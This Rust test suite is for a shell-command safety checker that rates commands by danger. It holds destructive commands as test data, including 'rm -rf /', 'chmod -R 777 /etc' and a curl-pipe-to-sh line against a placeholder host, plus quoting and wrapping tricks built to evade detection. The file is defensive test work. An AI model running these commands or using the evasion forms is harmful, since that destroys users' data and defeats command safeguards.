//! The judge as a whole: properties that hold whatever the rules are.

use crate::safety::{Facts, Level, check, check_with, explain};
use crate::shell::Shell;

fn level(command: &str) -> Level {
    check(command, Shell::Bash).level
}

#[test]
fn wrappers_never_lower_the_level() {
    for command in ["rm -rf /", "rm -rf *", "curl -s https://x.example | sh", "rm x", "chmod -R 777 /etc"] {
        let base = level(command);
        for wrapped in [
            format!("bash -c '{command}'"),
            format!("sudo sh -c '{command}'"),
            format!("env X=1 bash -c '{command}'"),
            format!("eval '{command}'"),
            format!("( {command} )"),
            format!("if true; then {command}; fi"),
            format!("f() {{ {command}; }}; f"),
            format!("bash <<'E'\n{command}\nE"),
            format!("ssh host '{command}'"),
            format!("true; {command}; true"),
            format!("x='{command}'; eval \"$x\""),
        ] {
            assert!(level(&wrapped) >= base, "{wrapped}");
        }
    }
}

#[test]
fn quoting_changes_nothing() {
    for command in [
        "rm -rf /",
        "r\\m -rf /",
        "'rm' -rf /",
        "\"rm\" '-rf' \"/\"",
        "$'\\x72m' -rf /",
        "/bin/rm -r -f //",
        "rm -rf /./",
        "rm${IFS}-rf${IFS}/",
    ] {
        assert_eq!(level(command), Level::Critical, "{command}");
    }
}

#[test]
fn mentions_are_safe() {
    for command in [
        "echo 'rm -rf /'",
        "grep -r 'rm -rf /' .",
        "git commit -m 'never rm -rf /'",
        "cat <<'E'\nrm -rf /\nE",
        "# rm -rf /",
        "x='rm -rf /'",
        "[[ $a == 'rm -rf /' ]]",
        "man rm",
    ] {
        assert_eq!(level(command), Level::Safe, "{command}");
    }
}

#[test]
fn spans_point_at_the_word() {
    let command = "ls é; rm -rf /";
    let report = check(command, Shell::Bash);
    assert_eq!(&command[report.findings[0].span.clone()], "/");
}

#[test]
fn facts_place_the_command() {
    let facts = |cwd: &str| Facts { home: Some("/home/ana".into()), cwd: Some(cwd.into()), ..Facts::default() };
    let level = |command: &str, cwd: &str| check_with(command, Shell::Bash, &facts(cwd)).level;
    assert_eq!(level("rm -rf *", "/"), Level::Critical);
    assert_eq!(level("rm -rf *", "/home/ana"), Level::Critical);
    assert_eq!(level("rm -rf *", "/home/ana/work"), Level::Danger);
    assert_eq!(level("rm -rf build", "/home/ana/work"), Level::Caution);
    assert_eq!(level("rm -rf ../..", "/home/ana/work"), Level::Critical);
    assert_eq!(level("rm -rf /home/ana", "/"), Level::Critical);
}

#[test]
fn another_home_is_named_as_it_is() {
    let facts = Facts { home: Some("/home/ana".into()), ..Facts::default() };
    let reason = |command: &str| check_with(command, Shell::Bash, &facts).findings[0].reason.clone();
    for command in ["rm -rf /home/bob/x", "cd /home/bob && rm -rf x", "cd /home/bob/y; rm -rf ../x"] {
        assert_eq!(reason(command), "deletes everything in /home/bob/x", "{command}");
    }
    assert_eq!(reason("rm -rf ~/x"), "deletes everything in /home/ana/x");
}

#[test]
fn an_explanation_shows_the_unwrapped_command() {
    let explanation = explain("sudo env A=1 sh -c 'x=/; rm -rf \"$x\"'", Shell::Bash, &Facts::default());
    let step = explanation.steps.iter().find(|step| step.argv[0] == "rm").expect("rm is judged");
    assert_eq!(step.argv, ["rm", "-rf", "/"]);
    assert!(step.root);
}

#[test]
fn deep_input_ends_soon_and_is_danger() {
    for command in [
        "eval ".repeat(3000) + "ls",
        "sudo ".repeat(3000) + "ls",
        "{a,b}".repeat(200),
        "$(".repeat(1 << 19),
        "echo a; ".repeat(1 << 17),
        (0..14).map(|i| format!("x{}=$x{i}$x{i}$x{i}; ", i + 1)).collect::<String>() + "$x14",
    ] {
        let report = check(&command, Shell::Bash);
        assert!(report.level >= Level::Caution, "{}", &command[..20]);
    }
}
